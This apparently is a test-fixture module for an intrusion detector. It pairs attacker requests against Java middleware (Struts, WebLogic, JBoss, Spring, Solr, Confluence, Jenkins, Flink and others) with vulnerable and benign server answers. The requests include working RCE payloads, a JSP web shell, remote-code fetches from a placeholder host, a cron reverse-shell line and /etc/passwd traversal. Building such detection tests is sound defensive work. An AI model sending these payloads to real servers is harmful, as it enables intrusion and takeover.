/** Java middleware other than Shiro, Fastjson and Tomcat: what attackers send, and what vulnerable, repaired and innocent servers answer. */
import { blocked, html, json, noise, notFound, page, text } from './answers.mjs';
import { ID, PASSWD, form, of, post, serialized, upload, xml } from './requests.mjs';

const article = (words) => form('/cms/save', `title=note&text=${encodeURIComponent(words)}`);
const saved = () => json({ ok: true });
const enc = encodeURIComponent;
const at8080 = { port: 8080 };

const shiro = of('java/shiro-padding-oracle', at8080);
const deleted = () => html('Login', { 'Set-Cookie': 'rememberMe=deleteMe; Path=/; Max-Age=0' });
const oracle = [
  shiro.hit('oracle', 'attempted', '90 forged cookies in a row, each voided', deleted, Array.from({ length: 90 }, (_, i) => ['/', '-H', `Cookie: rememberMe=${noise(528, 100 + i).toString('base64')}`]), { count: 1 }),
  shiro.miss('stale-cookie', 'a browser with a stale cookie, then a new one', (q) => (q.url === '/' ? deleted() : page('门户')), Array.from({ length: 8 }, (_, i) => [`/${i}`, '-H', `Cookie: rememberMe=${noise(384, 5).toString('base64')}`]).concat([['/', '-H', `Cookie: rememberMe=${noise(384, 5).toString('base64')}`]])),
];

const JSP = '<%@ page import="java.io.*"%><% if("p".equals(request.getParameter("k"))){ out.print(new java.util.Scanner(Runtime.getRuntime().exec(request.getParameter("c")).getInputStream()).next()); } %>';
const utc = of('java/weblogic-ws-utc', { port: 7001 });
const wsUtc = [
  utc.hit('keystore', 'succeeded', 'work folder moved, then a JSP as a key store, answered with its entry', (q) => (q.url.includes('keystore') ? [200, { 'Content-Type': 'text/xml' }, '<?xml version="1.0"?><keyStoreList><keyStoreItem><id>1571385600123</id><name>a</name><keyStore>a.jsp</keyStore></keyStoreItem></keyStoreList>'] : text('Save successfully.')),
    [form('/ws_utc/resources/setting/options', 'setting_id=general&BasicConfigOptions.workDir=%2Fu01%2Foracle%2Fuser_projects%2Fdomains%2Fbase_domain%2Fservers%2FAdminServer%2Ftmp%2F_WL_internal%2Fcom.oracle.webservices.wls.ws-testclient-app-wls%2F4mcj4y%2Fwar%2Fcss'), upload('/ws_utc/resources/setting/keystore?timestamp=1571385600000', 'a.jsp', JSP, 'ks_filename')]),
  utc.hit('absent', 'attempted', '404', notFound, [upload('/ws_utc/resources/setting/keystore', 'x.jsp', JSP, 'ks_filename')]),
  utc.miss('keystore', 'the test page, and a real key store', (q) => (q.method === 'GET' ? page('Web Services Test Client') : [200, { 'Content-Type': 'text/xml' }, '<keyStoreList><keyStoreItem><id>1571385600123</id></keyStoreItem></keyStoreList>']), [['/ws_utc/config.do'], upload('/ws_utc/resources/setting/keystore', 'server.jks', 'keystore bytes', 'ks_filename'), form('/ws_utc/resources/setting/options', 'setting_id=general&BasicConfigOptions.workDir=%2Fu01%2Fwsutc')]),
];

const s2 = of('java/struts-parameter-ognl', at8080);
const exec = "#_memberAccess=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS,#r=@java.lang.Runtime@getRuntime().exec('id')";
const parameter = [
  s2.hit('redirect', 'succeeded', 'S2-016 redirect: with command output', () => text(ID), [[`/index.action?redirect:${enc("${#a=new java.lang.ProcessBuilder(new java.lang.String[]{'id'}).start()}")}`]]),
  s2.hit('method', 'succeeded', 'S2-032 method: with command output', () => text(ID), [[`/index.action?method:${enc(`${exec},#x`)}&cmd=id`]]),
  s2.hit('namespace', 'succeeded', 'S2-057: the result of 233*233 in the redirect', () => [302, { Location: '/54289/actionChain1.action', 'Content-Length': '0' }, ''], [['/struts2/%24%7B233*233%7D/actionChain1.action']]),
  s2.hit('body', 'succeeded', 'S2-048 and S2-059 in a form', () => html(`<a id="${ID}">`), [form('/saveGangster.action', `name=${enc(`%{(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#_memberAccess=#dm).(#p=@java.lang.Runtime@getRuntime().exec('id'))}`)}&age=1`)]),
  s2.hit('devmode', 'attempted', 'devMode command refused by a firewall', blocked, [[`/index.action?debug=command&expression=${enc("#context[\"xwork.MethodAccessor.denyMethodExecution\"]=false,@java.lang.Runtime@getRuntime().exec('id')")}`]]),
  s2.hit('absent', 'attempted', '404', notFound, [[`/login.do?redirectAction:${enc("%{#context['com.opensymphony.xwork2.dispatcher.HttpServletRequest']}")}`]]),
  s2.miss('templates', 'parameters named redirect and action, template text, prices in dollars', saved, [['/login.action?redirect=/home&action=view'], ['/pay.action?amount=$%7Bprice%7D&method=alipay'], form('/mail/template', `body=${enc('尊敬的 ${user.name}，您的验证码为 ${code}，金额 $100 {含税}')}&action=save`), article('S2-016 uses redirect: and S2-057 a namespace'), ['/go?redirect=https://example.com/a#context']]),
];

const xs = of('java/xstream-deserialization', at8080);
const s2052 = '<map><entry><jdk.nashorn.internal.objects.NativeString><flags>0</flags><value class="com.sun.xml.internal.bind.v2.runtime.unmarshaller.Base64Data"><dataHandler><dataSource class="com.sun.xml.internal.ws.encoding.xml.XMLMessage$XmlDataSource"><is class="javax.crypto.CipherInputStream"><cipher class="javax.crypto.NullCipher"><serviceIterator class="javax.imageio.spi.FilterIterator"><iter class="javax.imageio.spi.FilterIterator"><iter class="java.util.Collections$EmptyIterator"/><next class="java.lang.ProcessBuilder"><command><string>touch</string><string>/tmp/s</string></command></next></iter><filter class="javax.imageio.ImageIO$ContainsFilter"><method><class>java.lang.ProcessBuilder</class><name>start</name></method></filter></serviceIterator></cipher></is></dataSource></dataHandler></value></jdk.nashorn.internal.objects.NativeString></entry></map>';
const xstream = [
  xs.hit('cast-error', 'succeeded', 'public S2-052 document, the error that follows the call', () => [500, { 'Content-Type': 'text/html' }, '<h1>HTTP Status 500</h1><pre>java.lang.String cannot be cast to java.security.Provider$Service\n javax.imageio.ImageIO$ContainsFilter.filter</pre>'], [post('/orders/3', s2052, 'application/xml')]),
  xs.hit('event-handler', 'attempted', 'dynamic proxy refused by a firewall', blocked, [post('/api/import', '<sorted-set><string>foo</string><dynamic-proxy><interface>java.lang.Comparable</interface><handler class="java.beans.EventHandler"><target class="java.lang.ProcessBuilder"><command><string>id</string></command></target><action>start</action></handler></dynamic-proxy></sorted-set>', 'application/xml')]),
  xs.miss('orders', 'ordinary XML of the same interface, a bean configuration, an article', saved, [post('/orders/3', '<org.demo.rest.example.Order><id>3</id><clientName>Bob</clientName><amount>33</amount></org.demo.rest.example.Order>', 'application/xml'), post('/api/map', '<map><entry><string>a</string><int>1</int></entry></map>', 'application/xml'), article(s2052)]),
];

const GADGET = serialized('java.util.HashSet', 'org.apache.commons.collections.keyvalue.TiedMapEntry', 'org.apache.commons.collections.functors.ChainedTransformer');
const bytes = (path, body) => post(path, body, 'application/x-java-serialized-object; class=org.jboss.invocation.MarshalledInvocation');
const jb = of('java/jboss-invoker', at8080);
const jboss = [
  jb.hit('readonly', 'succeeded', 'class names of a public chain, the cast error of a vulnerable server', () => [500, { 'Content-Type': 'text/html' }, '<h1>HTTP Status 500</h1><pre>java.lang.ClassCastException: java.util.HashSet cannot be cast to org.jboss.invocation.MarshalledInvocation</pre>'], [bytes('/invoker/readonly', GADGET)]),
  jb.hit('jmx-echo', 'succeeded', 'echo chain by JMXInvokerServlet', () => text(ID), [bytes('/invoker/JMXInvokerServlet', GADGET)]),
  jb.hit('absent', 'attempted', '404', notFound, [bytes('/invoker/readonly', GADGET), bytes('/jbossmq-httpil/HTTPServerILServlet', GADGET)]),
  jb.miss('invocation', 'a legacy client\'s own classes, and the page alone', () => [200, { 'Content-Type': 'application/x-java-serialized-object' }, Buffer.from('aced0005', 'hex')], [['/invoker/JMXInvokerServlet'], bytes('/invoker/EJBInvokerServlet', serialized('com.example.erp.OrderRequest', 'java.lang.Integer', 'java.math.BigDecimal'))]),
];
const jc = of('java/jboss-console-deploy', at8080);
const jbossConsole = [
  jc.hit('deploy', 'succeeded', 'addURL of a WAR on another host', () => html('<h1>JMX MBean Operation Result</h1>Operation completed successfully without a return value.'), [['/jmx-console/HtmlAdaptor?action=invokeOp&name=jboss.system:service%3DMainDeployer&methodIndex=17&arg0=http://203.0.113.66/s.war']]),
  jc.hit('login', 'attempted', '401', () => [401, { 'WWW-Authenticate': 'Basic realm="JBoss JMX Console"' }, ''], [['/jmx-console/HtmlAdaptor?action=invokeOpByName&name=jboss.admin:service%3DDeploymentFileRepository&methodName=store&argType=java.lang.String&arg0=s.war&arg1=s&arg2=.jsp']]),
  jc.miss('inspect', 'an administrator looks at beans', () => page('MBean Inspector'), [['/jmx-console/HtmlAdaptor?action=inspectMBean&name=jboss.system%3Atype%3DServerInfo'], ['/web-console/ServerInfo.jsp']]),
];

const ax = of('java/axis-adminservice', at8080);
const wsdd = '<?xml version="1.0"?><soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/"><soapenv:Body><deployment xmlns="http://xml.apache.org/axis/wsdd/" xmlns:java="http://xml.apache.org/axis/wsdd/providers/java"><service name="r" provider="java:RPC"><requestFlow><handler type="java:org.apache.axis.handlers.LogHandler"><parameter name="LogHandler.fileName" value="../webapps/ROOT/s.jsp"/><parameter name="LogHandler.writeToConsole" value="false"/></handler></requestFlow><parameter name="className" value="java.util.Random"/><parameter name="allowedMethods" value="*"/></service></deployment></soapenv:Body></soapenv:Envelope>';
const axis = [
  ax.hit('deployed', 'succeeded', 'LogHandler deployment, "Done processing"', () => [200, { 'Content-Type': 'text/xml' }, '<soapenv:Envelope><soapenv:Body><Admin xmlns="http://xml.apache.org/axis/wsdd/">Done processing</Admin></soapenv:Body></soapenv:Envelope>'], [xml('/axis/services/AdminService', wsdd)]),
  ax.hit('remote-off', 'attempted', 'remote administration is off', () => [500, { 'Content-Type': 'text/xml' }, '<soapenv:Fault><faultstring>Remote administrator access is not allowed!</faultstring></soapenv:Fault>'], [xml('/services/AdminService', wsdd)]),
  ax.miss('service', 'an ordinary call, and the list of services', () => [200, { 'Content-Type': 'text/xml' }, '<soapenv:Envelope><ok/></soapenv:Envelope>'], [['/axis/services/AdminService?wsdl'], xml('/axis/services/OrderService', '<soapenv:Envelope><soapenv:Body><getDeployment/></soapenv:Body></soapenv:Envelope>')]),
];

const mq = of('java/activemq-fileserver', { port: 8161 });
const activemq = [
  mq.hit('moved', 'succeeded', 'PUT of a JSP and MOVE into webapps, both 204', () => [204, {}, ''], [['/fileserver/a.txt', '-X', 'PUT', '--data-binary', JSP], ['/fileserver/a.txt', '-X', 'MOVE', '-H', 'Destination: file:///opt/activemq/webapps/api/s.jsp']]),
  mq.hit('absent', 'attempted', '404', notFound, [['/fileserver/b.txt', '-X', 'PUT', '--data-binary', '*/1 * * * * root /bin/bash -i\n* * * x']]),
  mq.miss('blobs', 'blob messages kept in the file server', () => [204, {}, ''], [['/fileserver/ID-host-1571-1.bin', '-X', 'PUT', '--data-binary', 'order 1'], ['/fileserver/ID-host-1571-1.bin', '-X', 'DELETE']]),
];

const ac = of('java/spring-actuator-abuse', at8080);
const actuator = [
  ac.hit('env', 'succeeded', 'bootstrap location set by /env, which answers with it', (q) => (q.url === '/refresh' ? json(['spring.cloud.bootstrap.location']) : json({ 'spring.cloud.bootstrap.location': 'http://203.0.113.66/y.yml' })), [form('/env', 'spring.cloud.bootstrap.location=http://203.0.113.66/y.yml'), ['/refresh', '-X', 'POST']], { count: 1 }),
  ac.hit('jolokia', 'succeeded', 'reloadByURL of logback by Jolokia', () => json({ status: 200, value: null, request: { type: 'exec' } }), [['/jolokia/exec/ch.qos.logback.classic:Name=default,Type=ch.qos.logback.classic.jmx.JMXConfigurator/reloadByURL/http:!/!/203.0.113.66!/logback.xml']]),
  ac.hit('gateway', 'succeeded', 'route with an expression, created', () => [201, {}, ''], [post('/actuator/gateway/routes/x', JSON.stringify({ id: 'x', filters: [{ name: 'AddResponseHeader', args: { name: 'R', value: "#{new String(T(org.springframework.util.StreamUtils).copyToByteArray(T(java.lang.Runtime).getRuntime().exec('id').getInputStream()))}" } }], uri: 'http://example.com' }))]),
  ac.hit('protected', 'attempted', '401', () => [401, {}, ''], [post('/actuator/env', '{"name":"eureka.client.serviceUrl.defaultZone","value":"http://203.0.113.66/x"}')]),
  ac.miss('monitoring', 'health, metrics and environment read by a monitoring system', () => json({ status: 'UP' }), [['/actuator/health'], ['/actuator/env'], ['/jolokia/read/java.lang:type=Memory/HeapMemoryUsage'], post('/jolokia', '{"type":"read","mbean":"java.lang:type=Threading"}'), post('/actuator/env', '{"name":"logging.level","value":"debug"}')]),
];

const spel = of('java/spring-spel-injection', at8080);
const spelScenarios = [
  spel.hit('data-commons', 'succeeded', 'CVE-2018-1273, the error of the expression engine', () => [500, { 'Content-Type': 'text/html' }, "<div>Property or field 'x' cannot be found on object of type 'java.lang.UNIXProcess'</div>"], [form('/users?page=&size=5', `username[${enc('#this.getClass().forName("java.lang.Runtime").getRuntime().exec("id")')}]=&password=&repeatedPassword=`)]),
  spel.hit('oauth', 'succeeded', 'CVE-2016-4977 with command output', () => html(`<p>Unsupported response types: [${ID}]</p>`), [[`/oauth/authorize?response_type=${enc('${T(java.lang.Runtime).getRuntime().exec("id")}')}&client_id=acme`]]),
  spel.hit('function', 'attempted', 'CVE-2022-22963 refused by a firewall', blocked, [post('/functionRouter', 'test', 'text/plain', '-H', 'spring.cloud.function.routing-expression: T(java.lang.Runtime).getRuntime().exec("id")')]),
  spel.miss('forms', 'indexed form fields and Java source in an article', saved, [form('/users', 'user[name]=li&items[0].id=3&note=T(erm)'), article('new java.io.File("x") and T(java.lang.Math).random()')]),
];

const s4 = of('java/spring4shell', at8080);
const pipeline = 'class.module.classLoader.resources.context.parent.pipeline.first.';
const spring4 = [
  s4.hit('log-pattern', 'attempted', 'pattern, suffix and folder of the access log; the server answers 200', () => page('ok'), [form('/login', `${pipeline}pattern=${enc('%{c2}i if("j".equals(request.getParameter("pwd"))){ %{c1}i }')}&${pipeline}suffix=.jsp&${pipeline}directory=webapps/ROOT&${pipeline}prefix=t&${pipeline}fileDateFormat=`)]),
  s4.hit('query', 'attempted', 'in the query; 400', () => [400, {}, ''], [['/?class.module.classLoader.URLs%5B0%5D=0']]),
  s4.miss('class-field', 'forms with a field named class', saved, [form('/course', 'class.name=3-2&class.teacher=wang&classLoader=x'), ['/search?class=module&q=classLoader']]),
];

const sd = of('java/solr-dataimport', { port: 8983 });
const dataConfig = '<dataConfig><dataSource type="URLDataSource"/><script><![CDATA[function poc(){ java.lang.Runtime.getRuntime().exec("touch /tmp/s"); }]]></script><document><entity name="x" url="http://203.0.113.66/a.xml" processor="XPathEntityProcessor" forEach="/feed" transformer="script:poc"/></document></dataConfig>';
const solr = [
  sd.hit('debug', 'succeeded', 'full import with a script, run in debug mode', () => json({ responseHeader: { status: 0 }, mode: 'debug', documents: [], status: 'idle', statusMessages: { '': 'Indexing completed. Added/Updated: 0 documents.' } }), [form('/solr/test/dataimport?_=1571385600&indent=on&wt=json', `command=full-import&verbose=false&clean=false&commit=true&debug=true&core=test&dataConfig=${enc(dataConfig)}&name=dataimport`)]),
  sd.hit('absent', 'attempted', '404', notFound, [form('/solr/core0/dataimport', `command=full-import&dataConfig=${enc(dataConfig)}`)]),
  sd.miss('import', 'the administrator starts the configured import', () => json({ responseHeader: { status: 0 }, status: 'busy', statusMessages: { 'Full Dump Started': '2019' } }), [form('/solr/test/dataimport?wt=json', 'command=full-import&clean=true&commit=true'), ['/solr/test/dataimport?command=status']]),
];
const sv = of('java/solr-velocity', { port: 8983 });
const velocity = [
  sv.hit('output', 'succeeded', 'setting, then the template with command output', (q) => (q.method === 'POST' ? json({ responseHeader: { status: 0, QTime: 300 } }) : text(`     0  ${ID}`)), [post('/solr/demo/config', '{"update-queryresponsewriter":{"startup":"lazy","name":"velocity","class":"solr.VelocityResponseWriter","template.base.dir":"","solr.resource.loader.enabled":"true","params.resource.loader.enabled":"true"}}'), [`/solr/demo/select?q=1&wt=velocity&v.template=custom&v.template.custom=${enc("#set($x='') #set($rt=$x.class.forName('java.lang.Runtime')) #set($ex=$rt.getRuntime().exec('id')) $ex.waitFor()")}`]]),
  sv.hit('refused', 'attempted', '403', () => [403, {}, ''], [post('/solr/demo/config', '{"update-queryresponsewriter":{"name":"velocity","class":"solr.VelocityResponseWriter","params.resource.loader.enabled":true}}')]),
  sv.miss('browse', 'a velocity page of the product and another setting', () => json({ responseHeader: { status: 0 } }), [['/solr/demo/browse?wt=velocity&v.template=browse&v.layout=layout&q=set'], post('/solr/demo/config', '{"set-property":{"updateHandler.autoCommit.maxTime":15000}}')]),
];

const cw = of('java/confluence-widget-template', { port: 8090 });
const macro = (template) => post('/rest/tinymce/1/macro/preview', JSON.stringify({ contentId: '786458', macro: { name: 'widget', body: '', params: { url: 'https://www.viddler.com/v/23464dc6', width: '1000', height: '1000', ...(template && { _template: template }) } } }));
const widget = [
  cw.hit('web-xml', 'succeeded', 'web.xml by traversal', () => html('<div class="wiki-content"><web-app xmlns="http://java.sun.com/xml/ns/javaee"><display-name>Confluence</display-name></web-app></div>'), [macro('../web.xml')]),
  cw.hit('remote', 'succeeded', 'template on another host with command output', () => html(`<div class="wiki-content">${ID}</div>`), [macro('https://203.0.113.66/r.vm')]),
  cw.hit('blocked', 'attempted', 'block page', blocked, [macro('file:///etc/passwd')]),
  cw.miss('editor', 'an editor previews a video', () => html('<div class="wiki-content"><iframe src="https://www.viddler.com/v/23464dc6"></iframe></div>'), [macro()]),
];
const co = of('java/confluence-ognl', { port: 8090 });
const confluence = [
  co.hit('header', 'succeeded', 'CVE-2022-26134 with output in a header', () => [302, { 'X-Cmd-Response': 'uid=2002(confluence) gid=2002(confluence)', Location: '/login.action' }, ''], [[`/${enc("${(#a=@org.apache.commons.io.IOUtils@toString(@java.lang.Runtime@getRuntime().exec(\"id\").getInputStream(),\"utf-8\")).(@com.opensymphony.webwork.ServletActionContext@getResponse().setHeader(\"X-Cmd-Response\",#a))}")}/`]]),
  co.hit('query-string', 'succeeded', 'CVE-2021-26084, arithmetic in the reply', () => html('<input type="hidden" name="queryString" value="aaaa{140592=null}" />'), [form('/pages/doenterpagevariables.action', `queryString=${enc("aaaa\\u0027+{333*422.2}+\\u0027")}`)]),
  co.hit('absent', 'attempted', '404', notFound, [form('/pages/createpage-entervariables.action', `queryString=${enc("x\\u0027+#{\\u0022\\u0022[\\u0022class\\u0022]}+\\u0027")}`)]),
  co.miss('pages', 'pages are written and templates filled in', () => page('Confluence'), [form('/pages/doenterpagevariables.action', "queryString=spaceKey%3DIT%26title%3DIt's&variableValues.a=1"), ['/display/IT/$%7Bname%7D+template']]),
];

const nx = of('java/nexus-expression', { port: 8081 });
const preview = (expression, type) => post('/service/extdirect', JSON.stringify({ action: 'coreui_Component', method: 'previewAssets', data: [{ page: 1, start: 0, limit: 25, sort: [{ property: 'name', direction: 'ASC' }], filter: [{ property: 'repositoryName', value: '*' }, { property: 'expression', value: expression }, { property: 'type', value: type }] }], type: 'rpc', tid: 4 }));
const nexus = [
  nx.hit('jexl', 'succeeded', 'public JEXL expression, success', () => json({ tid: 4, action: 'coreui_Component', method: 'previewAssets', result: { success: true, data: [], total: 0 } }), [preview("''.class.forName('java.lang.Runtime').getRuntime().exec('touch /tmp/s')", 'jexl')]),
  nx.hit('group', 'succeeded', 'CVE-2020-10199, the product in the reply', () => json([{ id: 'FIELD memberNames', message: 'Member repository does not exist: A54289' }], 400), [post('/service/rest/beta/repositories/go/group', '{"name":"internal","online":true,"group":{"memberNames":["$\\\\A{233*233}"]}}')]),
  nx.hit('refused', 'attempted', '403', () => [403, {}, ''], [preview("''.class.forName('java.lang.Runtime')", 'csel')]),
  nx.miss('preview', 'an administrator previews a content selector', () => json({ result: { success: true, data: [], total: 0 } }), [preview('format == "maven2" and path =^ "/org"', 'csel')]),
];

const jk = of('java/jenkins-groovy', at8080);
const checkScript = '/securityRealm/user/admin/descriptorByName/org.jenkinsci.plugins.scriptsecurity.sandbox.groovy.SecureGroovyScript/checkScript';
const jenkins = [
  jk.hit('check-script', 'succeeded', '@Grab compiled by checkScript', () => html('<div/>'), [[`${checkScript}?sandbox=true&value=${enc("@GrabConfig(disableChecksums=true)\n@GrabResolver(name='s', root='http://203.0.113.66/')\n@Grab(group='g', module='p', version='1')\nimport Payload;")}`]]),
  jk.hit('console', 'succeeded', 'script console with command output', () => html(`<h2>Result</h2><pre>${ID}</pre>`), [form('/script', `script=${enc('println "id".execute().text')}&Submit=Run`)]),
  jk.hit('refused', 'attempted', '403', () => [403, { 'X-Jenkins': '2.190' }, 'Authentication required'], [[`${checkScript}?sandbox=true&value=${enc('public class x { public x(){ "id".execute() } }')}`], form('/scriptText', `script=${enc('"id".execute().text')}`)]),
  jk.miss('pipeline', 'a pipeline is edited and checked', () => html('<div/>'), [form('/job/build/descriptorByName/org.jenkinsci.plugins.workflow.cps.CpsFlowDefinition/checkScriptCompile', `value=${enc("pipeline { agent any\n stages { stage('b') { steps { sh 'make' } } } }")}`), ['/job/build/descriptorByName/hudson.tasks.Shell/checkCommand?value=make']]),
];

const wc = of('java/weblogic-console-traversal', { port: 7001 });
const console_ = [
  wc.hit('bypass', 'succeeded', 'doubly encoded path, the console\'s home page', () => html('<html><head><title>Oracle WebLogic Server Administration Console</title></head><body id="topMenu">Home Page - base_domain</body></html>'), [['/console/css/%252e%252e%252fconsole.portal?_nfpb=true&_pageLabel=HomePage1']]),
  wc.hit('mvel', 'succeeded', 'ShellSession with command output', () => text(ID), [form('/console/images/%252E%252E%252Fconsole.portal', `_nfpb=true&_pageLabel=&handle=${enc("com.tangosol.coherence.mvel2.sh.ShellSession(\"java.lang.Runtime.getRuntime().exec('id');\")")}`)]),
  wc.hit('absent', 'attempted', '404', notFound, [['/console/images/%252e%252e%252fconsole.portal']]),
  wc.miss('console', 'an administrator at work', () => html('<title>Oracle WebLogic Server Administration Console</title>'), [['/console/console.portal?_nfpb=true&_pageLabel=HomePage1'], ['/console/css/login.css'], ['/console/images/button_bg_n.png']]),
];

const fl = of('java/flink-jar-upload', { port: 8081 });
const flink = [
  fl.hit('upload', 'succeeded', 'JAR upload, then its run', (q) => (q.url.includes('upload') ? json({ filename: '/tmp/flink-web/3_s.jar', status: 'success' }) : json({ jobid: '6f1ed002ab5595859014ebf0951522d9' })), [upload('/jars/upload', 's.jar', 'PK\x03\x04 class', 'jarfile'), post('/jars/3f2b0c4e-aaaa_s.jar/run?entry-class=S', '{}')]),
  fl.hit('traversal', 'succeeded', 'CVE-2020-17519, the password file', () => text(PASSWD), [['/jobmanager/logs/..%252f..%252f..%252f..%252f..%252f..%252fetc%252fpasswd']]),
  fl.hit('refused', 'attempted', '404', notFound, [['/jobmanager/logs/..%252f..%252fetc%252fshadow']]),
  fl.miss('dashboard', 'the dashboard and its logs', () => json({ jobs: [] }), [['/jobs/overview'], ['/jobmanager/logs/flink-root-standalonesession-0.log'], ['/jars/']]),
];
const dr = of('java/druid-javascript', { port: 8888 });
const sampler = (filter) => post('/druid/indexer/v1/sampler', JSON.stringify({ type: 'index', spec: { type: 'index', ioConfig: { type: 'index' }, dataSchema: { transformSpec: { transforms: [], filter } } } }));
const druid = [
  dr.hit('sampled', 'succeeded', 'JavaScript filter, the sample comes back', () => json({ numRowsRead: 1, numRowsIndexed: 1, data: [] }), [sampler({ type: 'javascript', dimension: 'added', function: "function(v) {java.lang.Runtime.getRuntime().exec('id')}", '': { enabled: true } })]),
  dr.hit('refused', 'attempted', 'JavaScript is disabled', () => json({ error: 'JavaScript is disabled' }, 400), [sampler({ type: 'javascript', dimension: 'a', function: 'function(v){return java.lang.Runtime}' })]),
  dr.miss('selector', 'an ordinary filter, and JavaScript without Java', () => json({ numRowsRead: 9 }), [sampler({ type: 'selector', dimension: 'added', value: 'x' }), sampler({ type: 'javascript', dimension: 'added', function: 'function(v){return v>1}' })]),
];

const cd = of('java/class-download-by-java', { port: 8888, server: '198.51.100.23', client: '10.42.3.57' });
const classFile = Buffer.concat([Buffer.from('cafebabe0000003400', 'hex'), noise(700, 9)]);
const download = [
  cd.hit('class', 'compromised', 'the Java runtime\'s user agent fetches a class file', () => [200, { 'Content-Type': 'application/octet-stream' }, classFile], [['/Exploit.class', '-A', 'Java/1.8.0_181']]),
  cd.miss('maven', 'builds fetch archives, a missing class, a browser fetches a class', (q) => (q.url.endsWith('.jar') ? [200, {}, Buffer.concat([Buffer.from('PK\x03\x04'), noise(300, 2)])] : q.url.includes('missing') ? notFound() : [200, {}, classFile]), [['/maven2/a/a/1/a-1.jar', '-A', 'Java/1.8.0_181'], ['/missing.class', '-A', 'Java/11.0.4'], ['/lesson/Hello.class']]),
];

export default [...oracle, ...wsUtc, ...parameter, ...xstream, ...jboss, ...jbossConsole, ...axis, ...activemq, ...actuator, ...spelScenarios, ...spring4, ...solr, ...velocity, ...widget, ...confluence, ...nexus, ...jenkins, ...console_, ...flink, ...druid, ...download];
